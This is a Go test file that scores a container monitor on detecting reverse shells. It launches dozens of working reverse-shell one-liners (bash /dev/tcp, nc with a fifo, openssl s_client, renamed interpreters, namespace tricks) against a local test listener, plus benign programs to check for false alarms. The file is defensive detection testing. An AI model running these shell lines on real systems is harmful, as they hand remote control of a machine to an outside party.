//go:build attack

package attack

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"math/big"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/code-on-incus/coi/test/internal/house"
)

// wires are shells that somebody outside drives: each language that the image
// has, or that is compiled for it, by each way of joining a shell to a
// connection. The words of a line tell little; most are scripts.
var wires = []struct{ name, script string }{
	{"bash, its own descriptors", `exec 5<>/dev/tcp/HOST/PORT; sh <&5 >&5 2>&5`},
	{"bash, pipes", `exec 5<>/dev/tcp/HOST/PORT; cat <&5 | sh 2>&1 | cat >&5`},
	{"bash, read and eval", `exec 5<>/dev/tcp/HOST/PORT; while read -r l <&5; do eval "$l" >&5 2>&1; done`},
	{"bash, coproc", `coproc nc HOST PORT; sh <&${COPROC[0]} >&${COPROC[1]} 2>&1`},
	{"bash, terminal of script", `exec 5<>/dev/tcp/HOST/PORT; script -qc "sh -i" /dev/null <&5 >&5 2>&5`},
	{"sh and nc, fifo", `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc HOST PORT > /tmp/f`},
	{"nc, awk between", `rm -f /tmp/g; mkfifo /tmp/g; nc HOST PORT < /tmp/g | mawk -W interactive '{ print; fflush() }' | sh > /tmp/g 2>&1`},
	{"openssl, fifo", `rm -f /tmp/s; mkfifo /tmp/s; sh < /tmp/s 2>&1 | openssl s_client -quiet -connect HOST:TLSPORT > /tmp/s`},
	{"python, direct", `python3 rev.py HOST PORT direct`},
	{"python, two descriptors", `python3 rev.py HOST PORT "two descriptors"`},
	{"python, pipe", `python3 rev.py HOST PORT pipe`},
	{"python, fifo", `python3 rev.py HOST PORT fifo`},
	{"python, pty", `python3 rev.py HOST PORT pty`},
	{"python, unix pair", `python3 rev.py HOST PORT "unix pair"`},
	{"python, relay of two processes", `python3 rev.py HOST PORT "relay of two processes"`},
	{"python, two steps", `python3 rev.py HOST PORT "two steps"`},
	{"python, udp", `python3 rev.py HOST UDPPORT udp`},
	{"python, shell from memory", `python3 rev.py HOST PORT "memory file"`},
	{"python, listener", `python3 rev.py HOST PORT listener`},
	{"python, perl from stdin", `python3 rev.py HOST PORT interpreter`},
	{"python, shell renamed", `cp /bin/sh ./calc; python3 rev.py HOST PORT pipe ./calc`},
	{"python renamed", `cp "$(readlink -f /usr/bin/python3)" ./tool; ./tool rev.py HOST PORT pty`},
	{"python, pid namespace", `unshare -Urpf python3 rev.py HOST PORT pipe`},
	{"python, network namespace", `unshare -Urn bash -c 'ip link set lo up; ip addr add 198.51.100.7/32 dev lo; (sleep 2) | nc -l 198.51.100.7 4242 & sleep 0.2; exec python3 rev.py 198.51.100.7 4242 direct'`},
	{"perl, direct", `perl rev.pl HOST PORT direct`},
	{"perl, pipe", `perl rev.pl HOST PORT pipe`},
	{"perl, unix pair", `perl rev.pl HOST PORT "unix pair" /bin/bash`},
	{"node, direct", `node rev.js HOST PORT direct`},
	{"node, pipe", `node rev.js HOST PORT pipe`},
	{"C, direct", `./rev-c "$(getent hosts HOST | cut -d" " -f1)" PORT direct`},
	{"C, pipe", `./rev-c "$(getent hosts HOST | cut -d" " -f1)" PORT pipe`},
	{"C, unix pair, static", `./rev-s "$(getent hosts HOST | cut -d" " -f1)" PORT "unix pair"`},
	{"Go, direct", `./rev-go HOST PORT direct`},
	{"Go, pipe", `./rev-go HOST PORT pipe`},
	{"Go, one pipe each", `./rev-go HOST PORT "one pipe each"`},
}

// fair are programs that keep a connection and start shells, as tools do.
var fair = []struct{ name, script string }{
	{"node runs commands", `node honest.js HOST PORT`},
	{"python serves and runs commands", `python3 honest.py HOST PORT`},
	{"bash asks a port", `for i in 1 2 3; do (exec 5<>/dev/tcp/HOST/PORT) && echo up; sleep 0.3; done`},
	{"make under a networked parent", `printf 'all:\n\tsleep 0.5; echo x\n' > Makefile; (sleep 2 | nc HOST PORT >/dev/null) & make; wait`},
	{"ssh-like streams on a terminal", `script -qc 'sh -c "sleep 0.5; echo x"' /dev/null`},
}

// wiringRules are those that look at descriptors.
var wiringRules = []string{"shell.net-stdio", "shell.net-relay", "shell.net-fd", "shell.listen"}

// R-MON-05, R-MON-10, T-W-03: who drives a shell from outside is found by how
// its descriptors lead, in every language and way, and nobody else is. Part of
// the live score.
func TestScoreLiveWiring(t *testing.T) {
	rows := append(append([]struct{ name, script string }{}, wires...), fair...)
	secret, udp := driver(t, true), udpDriver(t)
	holes, plain := []string{secret, udp}, []string{} // a port for each row: the same finding is said once in a while
	for range rows {
		plain = append(plain, driver(t, false))
	}
	holes = append(holes, plain...)
	configure(t, fmt.Sprintf("[monitoring]\nauto_pause_on_high = false\nauto_kill_on_critical = false\n[[network.hosts]]\nip = \"host\"\nhostnames = [\"host.test\"]\nports = [%s]\n", strings.Join(holes, ", ")))
	dir := workspace(t)
	files, err := filepath.Glob("testdata/wiring/*.*")
	if err != nil || len(files) == 0 {
		t.Fatalf("scripts of the attacks: %v, %v", files, err)
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		put(t, filepath.Join(dir, filepath.Base(f)), string(data), 0o644)
	}
	put(t, filepath.Join(dir, "build.sh"), "sleep 0.6; echo built $1\n", 0o755)
	build := exec.Command("go", "build", "-o", filepath.Join(dir, "rev-go"), "./testdata/wiring/rev")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	var loop strings.Builder
	loop.WriteString("gcc -o rev-c rev.c && gcc -static -o rev-s rev.c || touch nocompiler\n")
	for i, d := range rows {
		places := strings.NewReplacer("TLSPORT", secret, "UDPPORT", udp, "PORT", plain[i], "HOST", "host.test")
		put(t, filepath.Join(dir, fmt.Sprintf("%d.sh", i)), places.Replace(d.script)+"\n", 0o644)
		fmt.Fprintf(&loop, "date +%%s%%N > start.%d; timeout 4 bash ./%d.sh </dev/null >out.%d 2>&1; sleep 0.7; kill -KILL -1; sleep 0.1\n", i, i, i)
	}
	s := beginFor(t, dir, awaitGo, 25*time.Minute)
	s.underway()
	follow := newArrivals(the.Home.Audit(s.container + ".jsonl"))
	goOn(t, dir, loop.String()+"touch done; sleep 1")
	err = house.Eventually(t.Context(), 25*time.Minute, func() error {
		follow.look()
		_, err := os.Stat(filepath.Join(dir, "done"))
		return err
	})
	if err != nil {
		t.Fatalf("the attacks did not end: %v\n%s", err, s.out.String())
	}
	follow.look()
	hits, byWire := 0, 0
	for i, d := range rows {
		from, to := stampOf(t, dir, i), time.Now()
		if i+1 < len(rows) {
			to = stampOf(t, dir, i+1)
		}
		rules := follow.rules(from, to)
		wired := false
		for _, r := range wiringRules {
			wired = wired || strings.Contains(rules, r)
		}
		switch {
		case i >= len(wires):
			if rules != "" {
				t.Errorf("false alarm  %-34s %s", d.name, rules)
			}
		case wired:
			hits, byWire = hits+1, byWire+1
			t.Logf("wired   %-34s %s", d.name, rules)
		case strings.Contains(rules, "shell."):
			hits++
			t.Logf("words   %-34s %s", d.name, rules)
		default:
			out, _ := os.ReadFile(filepath.Join(dir, fmt.Sprintf("out.%d", i)))
			t.Errorf("missed  %-34s %s\n%s", d.name, rules, out)
		}
	}
	t.Logf("live wiring: %d of %d shells found, %d of them by their descriptors; %d honest programs", hits, len(wires), byWire, len(fair))
	if float64(byWire) < 0.9*float64(len(wires)) {
		t.Errorf("%d of %d found by their descriptors; want 90 %%", byWire, len(wires))
	}
}

func put(t *testing.T, path, text string, mode os.FileMode) {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), mode); err != nil {
		t.Fatal(err)
	}
}

// rules are all findings at high or above about something that happened in that
// time.
func (a *arrivals) rules(from, to time.Time) string {
	var out []string
	for _, x := range a.all {
		if !x.ts.Before(from) && x.ts.Before(to) {
			out = append(out, x.rule)
		}
	}
	return strings.Join(out, " ")
}

// driver is somebody outside who types commands into whatever calls. It returns
// its port.
func driver(t *testing.T, secret bool) string {
	t.Helper()
	l, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	port := fmt.Sprint(l.Addr().(*net.TCPAddr).Port)
	if secret {
		l = tls.NewListener(l, &tls.Config{Certificates: []tls.Certificate{certificate(t)}})
	}
	t.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if errors.Is(err, net.ErrClosed) {
				return
			}
			if err == nil {
				go typeInto(c)
			}
		}
	}()
	return port
}

// typeInto types a command now and then, for at most a minute.
func typeInto(c net.Conn) {
	defer func() { _ = c.Close() }()
	tick := time.NewTicker(200 * time.Millisecond)
	defer tick.Stop()
	for range 300 {
		if _, err := c.Write([]byte("true\n")); err != nil {
			return
		}
		<-tick.C
	}
}

func udpDriver(t *testing.T) string {
	t.Helper()
	c, err := net.ListenUDP("udp4", nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	go func() {
		b := make([]byte, 1500)
		for {
			_, from, err := c.ReadFromUDP(b)
			if err != nil {
				return
			}
			_, _ = c.WriteToUDP([]byte("true\n"), from)
		}
	}()
	return fmt.Sprint(c.LocalAddr().(*net.UDPAddr).Port)
}

func certificate(t *testing.T) tls.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	form := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, form, form, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}
